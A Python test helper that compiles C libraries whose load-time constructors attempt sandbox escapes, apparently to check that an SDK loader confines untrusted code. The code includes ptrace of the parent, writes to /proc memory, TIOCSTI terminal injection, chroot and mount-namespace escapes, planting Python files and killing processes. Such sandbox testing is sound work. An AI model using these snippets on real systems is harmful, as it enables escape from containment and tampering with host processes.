"""Libraries whose constructors attack: each is a row.

A library that gets the thing it wants says so and ends the process. The test looks for effects that show only outside
(a file, a signal, a message). Names in capitals are values of a test.
"""

import os
from pathlib import Path
from typing import Any

from compiled_files import compile_file

SUCCESS = 99  # exit status
PROCESS_NAME = f"harms-{os.getpid()}"  # of this run of the tests

_PRELUDE = r"""
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <netinet/in.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>
static int append(const char *path) {
    int file = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
    if (file < 0) return 0;
    int done = write(file, "harm", 4) == 4;
    close(file);
    return done;
}
static int create(const char *path) {
    int file = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0666);
    if (file < 0) return 0;
    int done = write(file, "harm", 4) == 4;
    close(file);
    return done;
}
static const char *own(void) {
    static Dl_info info;
    dladdr((void *)own, &info);
    return info.dli_fname;
}
static int has_rights(const char *status) {
    char line[256]; unsigned long long bits; int found = 0; FILE *file = fopen(status, "r");
    while (file && fgets(line, sizeof line, file)) {
        found |= sscanf(line, "Cap%*[a-zA-Z]: %llx", &bits) == 1 && bits != 0;
        found |= strcmp(line, "NoNewPrivs:\t0\n") == 0;
    }
    if (file) fclose(file);
    return found;
}
static int opens(const char *path, int flags) {
    int file = open(path, flags | O_CLOEXEC);
    if (file >= 0) close(file);
    return file >= 0;
}
"""

# Name -> the body of `int attack(void)`: what it returns is whether it got what it wanted.
ATTACKS = {
    "file": 'return create(OUTSIDE "/file");',
    "proc-root": r"""
        char path[4096]; int done = 0; DIR *all = opendir("/proc"); struct dirent *each;
        while (all && (each = readdir(all))) {
            if (each->d_name[0] < '0' || each->d_name[0] > '9') continue;
            snprintf(path, sizeof path, "/proc/%s/root" OUTSIDE "/proc-root", each->d_name);
            done |= create(path);
        }
        return done;""",
    "proc-cwd": r"""
        char path[4096]; int done = 0; DIR *all = opendir("/proc"); struct dirent *each;
        while (all && (each = readdir(all))) {
            snprintf(path, sizeof path, "/proc/%s/cwd/../../../../../../../../../.." OUTSIDE "/proc-cwd", each->d_name);
            done |= create(path);
        }
        return done;""",
    "own-file": "return append(own());",
    "own-mode": "return chmod(own(), 0777) == 0;",
    "neighbour": r"""
        char path[4096]; snprintf(path, sizeof path, "%s.new", own());
        return create(path) || rename(own(), path) == 0;""",
    "hard-link": r"""
        char path[64]; snprintf(path, sizeof path, "/tmp/link-%d", getpid());
        if (link(own(), path)) return 0;
        int done = append(path); unlink(path); return done;""",
    "closure": r"""
        return append("/.rocm-sdk-proof/closure/_rocm_sdk_core/lib/libamdhip64.so.7")
            || create("/.rocm-sdk-proof/closure/_rocm_sdk_core/lib/new")
            || append("/.rocm-sdk-proof/program.py") || append("/.rocm-sdk-proof/wish.json");""",
    "python": 'return append("/usr/lib/locale/C.utf8/LC_CTYPE") || append(PYTHON) || create(STDLIB "/planted.py");',
    "trace-parent": r"""
        int done = ptrace(PTRACE_ATTACH, getppid(), 0, 0) == 0;
        if (done) { int status; waitpid(getppid(), &status, __WALL); ptrace(PTRACE_DETACH, getppid(), 0, 0); }
        return done;""",
    "memory-of-parent": r"""
        char path[64]; snprintf(path, sizeof path, "/proc/%d/mem", getppid());
        return opens(path, O_RDWR);""",
    "descriptors-of-parent": r"""
        char path[64]; snprintf(path, sizeof path, "/proc/%d/fd/1", getppid());
        return opens(path, O_WRONLY);""",
    "first-process": r"""
        return opens("/proc/1/mem", O_RDWR) || opens("/proc/1/fd/1", O_WRONLY)
            || ptrace(PTRACE_ATTACH, 1, 0, 0) == 0;""",
    "signal": "return kill(VICTIM, SIGKILL) == 0;",
    "abstract-socket": r"""
        int one = socket(AF_UNIX, SOCK_STREAM, 0); struct sockaddr_un at = {.sun_family = AF_UNIX};
        memcpy(at.sun_path + 1, SOCKET, sizeof SOCKET - 1);
        return connect(one, (void *)&at, offsetof(struct sockaddr_un, sun_path) + sizeof SOCKET) == 0;""",
    "socket-file": r"""
        int one = socket(AF_UNIX, SOCK_STREAM, 0); struct sockaddr_un at = {.sun_family = AF_UNIX};
        strcpy(at.sun_path, OUTSIDE "/socket");
        return connect(one, (void *)&at, sizeof at) == 0;""",
    "network": r"""
        int one = socket(AF_INET, SOCK_STREAM, 0);
        struct sockaddr_in at = {.sin_family = AF_INET, .sin_port = htons(PORT), .sin_addr = {htonl(INADDR_LOOPBACK)}};
        return connect(one, (void *)&at, sizeof at) == 0;""",
    "descriptor": r"""
        int done = 0;
        for (int each = 3; each < 1024; each++) done |= write(each, "harm", 4) == 4;
        return done;""",
    "keyring": r"""
        int rings[] = {KEY_SPEC_USER_KEYRING, KEY_SPEC_SESSION_KEYRING}, done = 0;
        for (int each = 0; each < 2; each++) {
            long key = syscall(SYS_add_key, "user", "rocm-sdk-harm", "harm", 4, rings[each]);
            if (key > 0) { done = 1; syscall(SYS_keyctl, KEYCTL_UNLINK, key, rings[each]); }
        }
        return done;""",
    "terminal": r"""
        int done = 0, terminal = open("/dev/tty", O_RDWR | O_CLOEXEC); char harm = ' ';
        for (int each = 0; each < 3; each++) done |= ioctl(each, TIOCSTI, &harm) == 0;
        return done || (terminal >= 0 && ioctl(terminal, TIOCSTI, &harm) == 0);""",
    "outlives": r"""
        if (fork() == 0) { setsid(); prctl(PR_SET_PDEATHSIG, 0); prctl(PR_SET_NAME, PROCESS_NAME);
            for (int each = 0; each < 64; each++) { signal(each, SIG_IGN); close(each); }
            if (fork() == 0) { prctl(PR_SET_NAME, PROCESS_NAME); sleep(60); } _exit(0); }
        return 0;""",
    "shared-memory": "return shmget(KEY, 1, 0) >= 0;",
    "core-pattern": 'return opens("/proc/sys/kernel/core_pattern", O_WRONLY);',
    "kernel-log": 'return opens("/dev/kmsg", O_WRONLY) || opens("/dev/mem", O_RDWR);',
    "disk": r"""
        struct stat facts; char path[64]; stat("/", &facts); snprintf(path, sizeof path, "/tmp/disk-%d", getpid());
        int done = mknod(path, S_IFBLK | 0666, facts.st_dev ? facts.st_dev : makedev(8, 0)) == 0;
        unlink(path); return done;""",
    "mount": 'return mount("harm", "/tmp", "tmpfs", 0, 0) == 0 || umount2("/dev/null", MNT_DETACH) == 0;',
    "mount-in-namespace": r"""
        if (unshare(CLONE_NEWUSER | CLONE_NEWNS)) return 0;
        mount("none", own(), 0, MS_REMOUNT | MS_BIND, 0);
        mount("none", "/", 0, MS_REMOUNT | MS_BIND, 0);
        char path[4096]; snprintf(path, sizeof path, "%s", own()); *strrchr(path, '/') = 0;
        mount("none", path, 0, MS_REMOUNT | MS_BIND, 0); umount2(path, MNT_DETACH); umount2(own(), MNT_DETACH);
        return append(own()) || create(OUTSIDE "/mount-in-namespace");""",
    "chroot": r"""
        mkdir("/tmp/deep", 0777); if (chroot("/tmp/deep")) return 0;
        for (int each = 0; each < 64; each++) if (chdir("..")) break;
        return chroot(".") == 0 && create(OUTSIDE "/chroot");""",
    "capabilities": 'return has_rights("/proc/self/status") || has_rights("/proc/1/status");',
    "session": "return getsid(0) == 0;",
    "process-group": "signal(SIGTERM, SIG_IGN); kill(0, SIGTERM); return 0;",
    "user": "return setresuid(1, 1, 1) == 0 || setresgid(1, 1, 1) == 0;",
    "hypervisor": "return socket(40, SOCK_STREAM, 0) >= 0;",
    "host-name": 'return sethostname("harm", 4) == 0;',
    "limit": r"""
        struct rlimit limit = {RLIM_INFINITY, RLIM_INFINITY};
        return setrlimit(RLIMIT_AS, &limit) == 0;""",
    "memory": r"""
        int flags = MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE;
        return mmap(0, 1UL << 45, PROT_READ | PROT_WRITE, flags, -1, 0) != MAP_FAILED;""",
    "answer": r"""
        printf("{\"wrong\": []}\n"); fflush(stdout); printf("%0100000d", 7); fflush(stdout); return 0;""",
}

# Attacks that only some tests want.
_OTHERS = {"sleeps": "prctl(PR_SET_NAME, PROCESS_NAME); sleep(600); return 0;"}

_REST = """
__attribute__((constructor)) static void harm(void) {
    if (attack()) { fprintf(stderr, "the attack succeeds\\n"); _exit(99); }
}
"""


def write_attack(directory: Path, name: str, values: dict[str, Any]) -> Path:
    """Compile a library that attacks when it is loaded, and return its path."""
    texts = {key: f'"{value}"' if isinstance(value, str) else str(value) for key, value in values.items()}
    texts["PROCESS_NAME"] = f'"{PROCESS_NAME}"'
    defined = "".join(f"#define {key} {text}\n" for key, text in texts.items())
    source = f"{_PRELUDE}\n{defined}\nstatic int attack(void) {{ {(ATTACKS | _OTHERS)[name]} }}\n{_REST}"
    words = ["cc", "-shared", "-fPIC", "-w", "-x", "c", "-", "-x", "none"]
    return compile_file(words, directory / f"lib{name}.so", source)
